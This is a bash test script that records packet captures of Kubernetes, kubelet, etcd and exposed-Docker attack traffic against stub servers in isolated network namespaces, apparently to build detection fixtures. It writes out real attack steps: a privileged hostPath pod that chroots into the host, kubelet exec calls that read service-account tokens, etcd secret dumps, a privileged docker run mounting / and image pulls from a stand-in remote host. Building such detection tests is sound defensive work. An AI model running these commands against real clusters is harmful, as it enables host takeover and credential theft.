#!/usr/bin/env bash
# record_kube.sh - records the kubelet / kube-apiserver / etcd / Docker-execution test captures in
# throw-away network namespaces (the same way as record.sh).
#
# Run as root: tests/capture/record_kube.sh [OUTDIR]   (default: <repo>/pcaps)
# Needs: iproute2, tcpdump, curl, kubectl (/usr/bin/kubectl), the docker CLI
# (/usr/local/bin/docker), /usr/bin/python3; ethtool optional.
#
# Hosts (namespaces on bridge br0 in ps-span; tcpdump on br0 is the SPAN port):
#   ps-dock  198.18.0.2:2375   stub dockerd (stub_docker.py)
#   ps-kapi  198.18.0.5:8080   stub kube-apiserver (stub_kube.py apiserver)
#   ps-klet  198.18.0.6:10255  stub kubelet read-only port; :10250 plaintext -> Go TLS 400
#   ps-kopen 198.18.0.7:10255  stub kubelet reached in clear with debugging handlers
#   ps-web8  198.18.0.8:8080   ordinary web application (Jenkins-like)
#   ps-etcd  198.18.0.9:2379   stub etcd v3 JSON gateway
#   ps-cli1 198.18.0.10 (kubectl, docker CLI), ps-cli2 198.18.0.11 (curl),
#   ps-mon  198.18.0.12 (monitoring poller)
# No namespace has a default route: the only reachable targets are these.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
OUT=${1:-$ROOT/pcaps}
PY=/usr/bin/python3
DOCKER=${DOCKER:-/usr/local/bin/docker}
KUBECTL=${KUBECTL:-/usr/bin/kubectl}
NSLIST=(ps-span ps-cli1 ps-cli2 ps-mon ps-dock ps-kapi ps-klet ps-kopen ps-web8 ps-etcd)
DOCK=198.18.0.2 KAPI=198.18.0.5 KLET=198.18.0.6 KOPEN=198.18.0.7 WEB8=198.18.0.8 ETCD=198.18.0.9
PIDS=()
TCPDUMP_PID=
TMP=
WRITTEN=()

die() { echo "record_kube.sh: $*" >&2; exit 1; }
log() { echo "record_kube.sh: $*" >&2; }

[ "$(id -u)" = 0 ] || die "must run as root (network namespaces)"
for t in ip tcpdump curl "$DOCKER" "$KUBECTL" "$PY"; do
    command -v "$t" >/dev/null || die "missing tool: $t"
done

del_namespaces() {
    local n p
    for n in "${NSLIST[@]}"; do
        if ip netns list | awk '{print $1}' | grep -qx "$n"; then
            for p in $(ip netns pids "$n" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
            ip netns del "$n" 2>/dev/null || true
        fi
    done
}

cleanup() {
    local rc=$? p
    set +e
    [ -n "$TCPDUMP_PID" ] && kill -INT "$TCPDUMP_PID" 2>/dev/null && wait "$TCPDUMP_PID" 2>/dev/null
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
    for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
    del_namespaces
    [ -n "$TMP" ] && rm -rf "$TMP"
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

check_target() {
    case "$1" in
        *://198.1[89].*|tcp://198.1[89].*) ;;
        *) die "refusing target outside the test ranges: $1" ;;
    esac
}

inns() {
    local ns=$1; shift
    ip netns exec "$ns" env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$TMP/home" \
        DOCKER_CONFIG="$TMP/dockercfg" KUBECONFIG="$TMP/kubeconfig" LANG=C.UTF-8 "$@"
}

dk() {
    local ns=$1 host=$2; shift 2
    check_target "$host"
    echo "  [$ns] docker -H $host $*" >&2
    inns "$ns" timeout 20 "$DOCKER" -H "$host" "$@" >>"$TMP/client.log" 2>&1 || true
    sleep 0.2
}

kc() {
    echo "  [ps-cli1] kubectl $*" >&2
    inns ps-cli1 timeout 20 "$KUBECTL" --cache-dir="$TMP/kcache" --request-timeout=5s "$@" \
        >>"$TMP/client.log" 2>&1 || true
    sleep 0.2
}

crl() {
    local ns=$1; shift
    local a
    for a in "$@"; do case "$a" in http://*) check_target "$a" ;; esac; done
    echo "  [$ns] curl $*" >&2
    inns "$ns" curl -s -S --noproxy '*' --max-time 5 -o /dev/null "$@" >>"$TMP/client.log" 2>&1 || true
    sleep 0.2
}

ns_add() {
    ip netns add "$1"
    ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$1" link set lo up
}

offloads_off() {
    if command -v ethtool >/dev/null; then
        ip netns exec "$1" ethtool -K "$2" tx off tso off gso off gro off >/dev/null 2>&1 || true
    fi
}

add_host() {
    local name=$1 oct=$2 addr=$3
    ns_add "ps-$name"
    ip -n "ps-$name" link add eth0 address "02:00:c6:12:00:$oct" type veth peer name "$name" netns ps-span
    ip -n ps-span link set "$name" master br0 up
    ip -n "ps-$name" addr add "$addr/15" dev eth0
    ip -n "ps-$name" link set eth0 up
    offloads_off "ps-$name" eth0
    offloads_off ps-span "$name"
}

start_bg() {
    local ns=$1; shift
    ip netns exec "$ns" "$@" >>"$TMP/server.log" 2>&1 &
    PIDS+=($!)
}

wait_listen() {
    local i
    for i in $(seq 50); do
        ip netns exec "$1" ss -Hltn "sport = :$2" | grep -q . && return 0
        sleep 0.1
    done
    die "nothing listens on $1 port $2"
}

setup() {
    del_namespaces
    TMP=$(mktemp -d /tmp/ps-record-kube.XXXXXX)
    mkdir -p "$TMP/home" "$TMP/dockercfg" "$TMP/kcache"
    ns_add ps-span
    ip -n ps-span link add br0 type bridge stp_state 0 mcast_snooping 0
    ip -n ps-span link set br0 up
    add_host cli1 0a 198.18.0.10
    add_host cli2 0b 198.18.0.11
    add_host mon 0c 198.18.0.12
    add_host dock 02 $DOCK
    add_host kapi 05 $KAPI
    add_host klet 06 $KLET
    add_host kopen 07 $KOPEN
    add_host web8 08 $WEB8
    add_host etcd 09 $ETCD
    # kubectl talks plain HTTP to the stub apiserver, with a bearer token
    # (a fake one: the captures show that portside fingerprints it).
    cat >"$TMP/kubeconfig" <<KCFG
apiVersion: v1
kind: Config
clusters:
- name: stub
  cluster:
    server: http://$KAPI:8080
contexts:
- name: stub
  context: {cluster: stub, user: attacker, namespace: default}
current-context: stub
users:
- name: attacker
  user:
    token: stub-token-4f1d2c3b5a6e7f8091a2b3c4d5e6f708
KCFG
    cat >"$TMP/pod.yaml" <<'POD'
apiVersion: v1
kind: Pod
metadata:
  name: attack-pod-x7k2p
spec:
  hostPID: true
  containers:
  - name: shell
    image: alpine:3.20
    command: ["chroot", "/host", "sh", "-c", "sleep 3600"]
    securityContext:
      privileged: true
    volumeMounts:
    - {name: host, mountPath: /host}
  volumes:
  - name: host
    hostPath: {path: /}
POD
    start_bg ps-dock "$PY" "$HERE/stub_docker.py" --quiet --listen $DOCK:2375
    start_bg ps-kapi "$PY" "$HERE/stub_kube.py" apiserver --quiet --listen $KAPI:8080
    start_bg ps-klet "$PY" "$HERE/stub_kube.py" kubelet-ro --quiet --listen $KLET:10255
    start_bg ps-klet "$PY" "$HERE/stub_kube.py" kubelet-tls --quiet --listen $KLET:10250
    start_bg ps-kopen "$PY" "$HERE/stub_kube.py" kubelet-open --quiet --listen $KOPEN:10255
    start_bg ps-web8 "$PY" "$HERE/stub_kube.py" webapp --quiet --listen $WEB8:8080
    start_bg ps-etcd "$PY" "$HERE/stub_kube.py" etcd --quiet --listen $ETCD:2379
    wait_listen ps-dock 2375
    wait_listen ps-kapi 8080
    wait_listen ps-klet 10255
    wait_listen ps-klet 10250
    wait_listen ps-kopen 10255
    wait_listen ps-web8 8080
    wait_listen ps-etcd 2379
    sleep 1
}

cap_start() {
    : >"$TMP/tcpdump.err"
    ip netns exec ps-span tcpdump -i br0 --immediate-mode -U -s 0 -Z root -w "$1" >"$TMP/tcpdump.err" 2>&1 &
    TCPDUMP_PID=$!
    local i
    for i in $(seq 50); do
        grep -q 'listening on' "$TMP/tcpdump.err" && { sleep 0.2; return 0; }
        sleep 0.1
    done
    die "tcpdump did not start: $(cat "$TMP/tcpdump.err")"
}

cap_stop() {
    sleep 1
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || true
    TCPDUMP_PID=
}

report() {
    local n
    n=$(tcpdump -r "$1" 2>/dev/null | wc -l)
    WRITTEN+=("$(printf '%-34s %7d bytes %5d packets' "${1#"$ROOT"/}" "$(stat -c %s "$1")" "$n")")
}

# ------------------------------------------------------------------ sessions

rec_kubectl() {
    local f=$OUT/kube-kubectl.pcap
    log "recording $f"
    cap_start "$f"
    kc version
    kc get pods -A
    kc get nodes
    kc get secrets
    kc get secret db-credentials -o json
    kc auth can-i --list
    kc auth can-i create pods
    kc exec web-frontend-7d4b9c -- id
    kc create --validate=false -f "$TMP/pod.yaml"
    kc create token default
    # A hand-held tool: curl with a stolen bearer token, and the Jenkins-like
    # path on the real apiserver (answered with a Status 404, still Kubernetes).
    crl ps-cli2 -H "Authorization: Bearer stub-token-4f1d2c3b5a6e7f8091a2b3c4d5e6f708" \
        "http://$KAPI:8080/api/v1/namespaces/kube-system/secrets"
    crl ps-cli2 "http://$KAPI:8080/api/json"
    cap_stop
    report "$f"
}

rec_kubelet() {
    local f=$OUT/kubelet-curl.pcap RO=http://$KLET:10255 OPEN=http://$KOPEN:10255
    local P=default/web-frontend-7d4b9c/nginx
    log "recording $f"
    cap_start "$f"
    # Read-only port: discovery works, debugging handlers answer 405.
    crl ps-cli2 -A "Go-http-client/1.1" "$RO/healthz"
    crl ps-cli2 "$RO/pods"
    crl ps-cli2 "$RO/runningpods/"
    crl ps-cli2 -d "cmd=id" "$RO/run/$P"
    crl ps-cli2 "$RO/metrics"
    crl ps-cli2 "$RO/stats/summary"
    # 10250 is TLS: a plaintext request gets Go's 400.
    crl ps-cli2 "http://$KLET:10250/pods"
    # A kubelet answering in clear with its debugging handlers on.
    crl ps-cli2 "$OPEN/runningpods/"
    crl ps-cli2 -X POST "$OPEN/run/$P?cmd=id"
    crl ps-cli2 -d "cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token" "$OPEN/run/$P/"
    crl ps-cli2 -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Version: 13" \
        -H "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==" -H "Sec-WebSocket-Protocol: v4.channel.k8s.io" \
        "$OPEN/exec/$P?command=id&command=-a&output=1&error=1"
    crl ps-cli2 "$OPEN/exec/$P?command=id&output=1"
    crl ps-cli2 "$OPEN/containerLogs/$P"
    crl ps-cli2 "$OPEN/configz"
    cap_stop
    report "$f"
}

rec_etcd() {
    local f=$OUT/etcd-curl.pcap U=http://$ETCD:2379
    log "recording $f"
    cap_start "$f"
    crl ps-cli2 "$U/version"
    crl ps-cli2 -X POST -d '{"key":"L3JlZ2lzdHJ5L3NlY3JldHMv","range_end":"L3JlZ2lzdHJ5L3NlY3JldHMw"}' "$U/v3/kv/range"
    crl ps-cli2 -X POST -d '{"key":"L3JlZ2lzdHJ5L3BvZHMvZGVmYXVsdC93ZWItZnJvbnRlbmQtN2Q0Yjlj"}' "$U/v3/kv/range"
    crl ps-cli2 -X POST -d '{"key":"AA==","range_end":"AA==","keys_only":true}' "$U/v3beta/kv/range"
    crl ps-cli2 -X POST -H "X-Test-Auth: 1" -d '{"key":"L3JlZ2lzdHJ5L3NlY3JldHMv","range_end":"L3JlZ2lzdHJ5L3NlY3JldHMw"}' "$U/v3alpha/kv/range"
    crl ps-cli2 -X POST -d '{}' "$U/v3/maintenance/snapshot"
    crl ps-cli2 -X POST -d '{"key":"L3JlZ2lzdHJ5L3BvZHMvZGVmYXVsdC9ldmls","value":"azhzAA=="}' "$U/v3/kv/put"
    cap_stop
    report "$f"
}

rec_docker_exec() {
    local f=$OUT/docker-exec.pcap H=tcp://$DOCK:2375 U=http://$DOCK:2375
    log "recording $f"
    cap_start "$f"
    dk ps-cli1 $H run -d --privileged -v /:/host alpine chroot /host sh
    dk ps-cli1 $H exec web-frontend id
    # curl: a create with secrets in Env (fingerprinted, never written) and
    # a pull with registry credentials.
    crl ps-cli2 -X POST -H "Content-Type: application/json" \
        -d '{"Image":"nginx:1.27-alpine","Env":["DB_PASSWORD=hunter2-Pg!","MODE=prod","API_TOKEN=tok-1234567890"],"HostConfig":{"RestartPolicy":{"Name":"always"}}}' \
        "$U/v1.50/containers/create?name=shop-worker"
    crl ps-cli2 -X POST -H "X-Registry-Auth: eyJ1c2VybmFtZSI6InNob3AiLCJwYXNzd29yZCI6InMzY3IzdCJ9" \
        "$U/v1.50/images/create?fromImage=alpine&tag=3.20"
    crl ps-cli2 -X POST "$U/v1.50/images/create?fromSrc=http%3A%2F%2F198.18.0.99%2Frootfs.tar&repo=x"
    crl ps-cli2 -X POST "$U/v1.50/build?remote=http%3A%2F%2F198.18.0.99%2Fctx.tar"
    cap_stop
    report "$f"
}

rec_benign_monitor() {
    local f=$OUT/benign-monitor.pcap U=http://$WEB8:8080 p i
    log "recording $f"
    cap_start "$f"
    for i in 1 2; do
        for p in /metrics /api/json /version /login /api/v1/pods; do
            crl ps-mon -A "Prometheus/2.53.0" "$U$p"
        done
    done
    cap_stop
    report "$f"
}

main() {
    mkdir -p "$OUT"
    setup
    rec_kubectl
    rec_kubelet
    rec_etcd
    rec_docker_exec
    rec_benign_monitor
    echo "record_kube.sh: wrote:"
    printf '  %s\n' "${WRITTEN[@]}"
    sed 's/^/  client: /' "$TMP/client.log" | tail -n 60 >&2
}

main "$@"
